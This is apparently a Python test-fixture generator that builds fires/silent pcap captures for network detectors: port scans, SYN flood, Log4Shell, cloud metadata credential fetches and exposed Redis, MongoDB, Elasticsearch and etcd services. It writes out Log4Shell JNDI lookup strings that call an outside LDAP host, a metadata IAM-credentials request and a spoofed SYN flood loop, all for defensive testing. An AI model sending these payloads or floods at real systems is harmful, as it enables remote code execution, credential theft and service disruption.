#!/usr/bin/env python3
"""Writes tests/golden/captures/detect/<detector>-{fires,silent}.pcap: for each detector what it must tell and what only
looks like it. Nothing is sent: packets are put together byte by byte, so that the files are always the same.

Usage: make_detect_captures.py [DIRECTORY]"""
import gzip
import pathlib
import struct
import sys
import zlib
from ipaddress import ip_address

START = 1_800_000_000
OUTSIDE, INSIDE, TARGET = "203.0.113.7", "10.0.0.9", "10.0.0.2"
OUTSIDE6, TARGET6 = "2001:db8::7", "fd00::2"
FIN, SYN, RST, PSH, ACK, URG = 1, 2, 4, 8, 16, 32


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def datagram(source, target, protocol, payload):
    """An Ethernet frame with an IP datagram, IPv4 or IPv6; `payload` has its checksum field empty at the usual place."""
    a, b = ip_address(source), ip_address(target)
    place = {6: 16, 17: 6}[protocol]
    if a.version == 4:
        pseudo = a.packed + b.packed + struct.pack(">BBH", 0, protocol, len(payload))
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0x4000, 64, protocol, 0, a.packed, b.packed)
        head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
        kind = 0x0800
    else:
        pseudo = a.packed + b.packed + struct.pack(">IHBB", len(payload), 0, 0, protocol)
        head = struct.pack(">IHBB16s16s", 6 << 28, len(payload), protocol, 64, a.packed, b.packed)
        kind = 0x86DD
    payload = payload[:place] + struct.pack(">H", checksum(pseudo + payload)) + payload[place + 2:]
    return b"\x02\0\0\0\0\x02\x02\0\0\0\0\x01" + struct.pack(">H", kind) + head + payload


def tcp(source, sport, target, dport, seq, ack, flags, data=b""):
    return datagram(source, target, 6, struct.pack(">HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65000, 0, 0) + data)


def udp(source, sport, target, dport, data):
    return datagram(source, target, 17, struct.pack(">HHHH", sport, dport, 8 + len(data), 0) + data)


class Capture:
    def __init__(self, step=0.001):
        self.packets, self.at, self.port, self.step = [], 0.0, 20000, step

    def add(self, frame):
        self.packets.append((self.at, frame))
        self.at += self.step

    def wait(self, seconds):
        self.at += seconds

    def session(self, client, server, port, said, cut=1400, close=True):
        """A TCP connection in which b"..." is said by the client and ("...",) by the server."""
        self.port += 1
        sport, here, there = self.port, 1000, 5000
        self.add(tcp(client, sport, server, port, here, 0, SYN))
        self.add(tcp(server, port, client, sport, there, here + 1, SYN | ACK))
        here, there = here + 1, there + 1
        self.add(tcp(client, sport, server, port, here, there, ACK))
        for each in said:
            by_client = isinstance(each, bytes)
            data = each if by_client else each[0]
            for at in range(0, len(data), cut):
                part = data[at:at + cut]
                if by_client:
                    self.add(tcp(client, sport, server, port, here, there, PSH | ACK, part))
                    here += len(part)
                    self.add(tcp(server, port, client, sport, there, here, ACK))
                else:
                    self.add(tcp(server, port, client, sport, there, here, PSH | ACK, part))
                    there += len(part)
                    self.add(tcp(client, sport, server, port, here, there, ACK))
        if close:
            self.add(tcp(client, sport, server, port, here, there, FIN | ACK))
            self.add(tcp(server, port, client, sport, there, here + 1, FIN | ACK))
            self.add(tcp(client, sport, server, port, here + 1, there + 1, ACK))

    def refused(self, client, server, port):
        self.port += 1
        self.add(tcp(client, self.port, server, port, 1000, 0, SYN))
        self.add(tcp(server, port, client, self.port, 0, 1001, RST | ACK))

    def bytes(self):
        out = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)
        for at, frame in self.packets:
            whole = int(round((START + at) * 1_000_000))
            out += struct.pack("<IIII", whole // 1_000_000, whole % 1_000_000, len(frame), len(frame)) + frame
        return out


def http(method, path, body=b"", **headers):
    lines = [f"{method} {path} HTTP/1.1", "Host: shop.example"]
    lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
    if body:
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


def answer(status, body=b"", **headers):
    lines = [f"HTTP/1.1 {status}", f"Content-Length: {len(body)}"]
    lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
    return ("\r\n".join(lines).encode() + b"\r\n\r\n" + body,)


def both_families(capture, port, said, **more):
    capture.session(OUTSIDE, TARGET, port, said, **more)
    capture.session(OUTSIDE6, TARGET6, port, said, **more)


def scan_ports():
    fires, silent = Capture(), Capture()
    for source, target in ((OUTSIDE, TARGET), (OUTSIDE6, TARGET6)):
        for port in range(1, 31):
            fires.refused(source, target, port)
    for i in range(60):  # exporters and health checks: many open ports, one closed
        silent.session(INSIDE, TARGET, 9000 + i % 30, [])
        silent.refused(INSIDE, TARGET, 8080)
        silent.add(udp(INSIDE, 50000, "198.51.100.1", 33434 + i, b"traceroute"))
        silent.wait(1)
    return fires, silent


def syn_flood():
    fires, silent = Capture(1 / 800), Capture(1 / 1500)
    for i in range(5600):
        fires.add(tcp(f"198.18.{i // 250}.{i % 250 + 1}", 1024 + i, TARGET, 80, i, 0, SYN))
    for _ in range(3000):  # load, 500 connections a second, that is answered
        silent.session(INSIDE, TARGET, 80, [], close=False)
    return fires, silent


def log4shell():
    fires, silent = Capture(), Capture()
    both_families(fires, 8080, [http("GET", "/", User_Agent="${${lower:j}ndi:ldap://198.51.100.9:1389/a}"), answer("200 OK")], cut=7)
    fires.session(OUTSIDE, TARGET, 8080, [http("POST", "/f", gzip.compress(b"q=${jndi:ldap://198.51.100.9/a}", mtime=0),
                                               Content_Encoding="gzip"), answer("200 OK")])
    fires.wait(2)
    fires.session(TARGET, "198.51.100.9", 1389, [b"0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\0\x80\0"])
    both_families(silent, 8080, [http("GET", "/docs?q=jndi:ldap", X_Note="jndi:ldap://198.51.100.9/a"), answer("200 OK")])
    silent.session(INSIDE, TARGET, 8080, [http("POST", "/f", b"text=${user.name}+and+$%7BPATH%7D"), answer("200 OK")])
    return fires, silent


def cloud_metadata():
    fires, silent = Capture(), Capture()
    path = "/latest/meta-data/iam/security-credentials/role"
    fires.session(TARGET, "169.254.169.254", 80, [http("GET", path), answer("200 OK", b"{}")])
    fires.session(TARGET6, "fd00:ec2::254", 80, [http("GET", path), answer("200 OK", b"{}")])
    silent.session(TARGET, "169.254.20.10", 80, [http("GET", path), answer("200 OK", b"{}")])
    silent.add(udp(TARGET, 50000, "169.254.169.254", 123, b"\x23" + b"\0" * 47))
    silent.add(udp(TARGET, 50001, "169.254.169.254", 53, b"\0\1\1\0\0\1\0\0\0\0\0\0\3www\7example\0\0\1\0\1"))
    return fires, silent


def redis():
    fires, silent = Capture(), Capture()
    get = b"*2\r\n$3\r\nGET\r\n$5\r\nkey:1\r\n"
    both_families(fires, 6379, [b"*1\r\n$4\r\nPING\r\n", (b"+PONG\r\n",), get, (b"$5\r\nvalue\r\n",)])
    both_families(silent, 6379, [get, (b"-NOAUTH Authentication required.\r\n",),
                                 b"*2\r\n$4\r\nAUTH\r\n$4\r\npass\r\n", (b"+OK\r\n",), get, (b"$5\r\nvalue\r\n",)])
    silent.session(OUTSIDE, TARGET, 6379, [b"PING\r\n", (b"+PONG\r\n",)])
    return fires, silent


def memcached():
    fires, silent = Capture(), Capture()
    both_families(fires, 11211, [b"stats\r\n", (b"STAT pid 1\r\nSTAT uptime 4\r\nEND\r\n",)])
    both_families(silent, 11211, [b"version\r\n", (b"VERSION 1.6.18\r\n",), b"get key\r\n", (b"CLIENT_ERROR unauthenticated\r\n",)])
    return fires, silent


def bson(key, ok):
    body = b"\x10" + key + b"\0" + struct.pack("<i", 1) + b"\x02$db\0" + struct.pack("<i", 6) + b"admin\0"
    if ok is not None:
        body += b"\x01ok\0" + struct.pack("<d", ok)
    return struct.pack("<i", len(body) + 5) + body + b"\0"


def mongo(number, answers, key, ok=None, packed=False):
    body, operation = struct.pack("<I", 0) + b"\0" + bson(key, ok), 2013
    if packed:
        body = struct.pack("<iiB", operation, len(body), 2) + zlib.compress(body)
        operation = 2012
    return struct.pack("<iiii", 16 + len(body), number, answers, operation) + body


def mongodb():
    fires, silent = Capture(), Capture()
    hello = [mongo(1, 0, b"hello"), (mongo(9, 1, b"helloOk", 1.0),)]
    both_families(fires, 27017, hello + [mongo(2, 0, b"listDatabases", packed=True), (mongo(10, 2, b"databases", 1.0),)])
    both_families(silent, 27017, hello + [mongo(2, 0, b"find"), (mongo(10, 2, b"errmsg", 0.0),),
                                          mongo(3, 0, b"saslStart"), (mongo(11, 3, b"conversationId", 1.0),),
                                          mongo(4, 0, b"find"), (mongo(12, 4, b"cursor", 1.0),)])
    return fires, silent


def elasticsearch():
    fires, silent = Capture(), Capture()
    product = {"X_elastic_product": "Elasticsearch"}
    both_families(fires, 9200, [http("GET", "/_cat/indices"), answer("200 OK", b"green open shop", **product)])
    both_families(silent, 9200, [http("GET", "/"), answer("200 OK", b"{}", **product),
                                 http("GET", "/_search"), answer("401 Unauthorized"),
                                 http("GET", "/_search", Authorization="Basic eDp5"), answer("200 OK", b"{}", **product)])
    return fires, silent


def h2(kind, stream, payload, flags=4):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags if kind == 1 else 0]) + struct.pack(">I", stream) + payload


def etcd():
    fires, silent = Capture(), Capture()
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2(4, 0, b"")
    path = b"\x83\x44\x90" + bytes.fromhex("60a924882d9dcb6571af9b8b1b4754c5")
    data = h2(1, 1, b"\x88") + h2(0, 1, b"\0\0\0\0\1k")
    both_families(fires, 2379, [preface + h2(1, 1, path), (h2(4, 0, b"") + data,)])
    both_families(silent, 2379, [preface + h2(1, 1, path), (h2(4, 0, b"") + h2(1, 1, b"\x88\x40\x0bgrpc-status\x0216", 5),)])
    silent.session(INSIDE, TARGET, 2379, [http("GET", "/health"), answer("200 OK", b'{"health":"true"}')])
    return fires, silent


CAPTURES = {
    "net.scan.ports": scan_ports, "net.tcp.syn-flood": syn_flood, "net.http.log4shell": log4shell,
    "net.cloud.metadata": cloud_metadata, "net.expose.redis": redis, "net.expose.memcached": memcached,
    "net.expose.mongodb": mongodb, "net.expose.elasticsearch": elasticsearch, "net.expose.etcd": etcd,
}


def main():
    into = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else pathlib.Path(__file__).parent / "detect")
    into.mkdir(parents=True, exist_ok=True)
    for detector, make in CAPTURES.items():
        for kind, capture in zip(("fires", "silent"), make()):
            (into / f"{detector}-{kind}.pcap").write_bytes(capture.bytes())


if __name__ == "__main__":
    main()
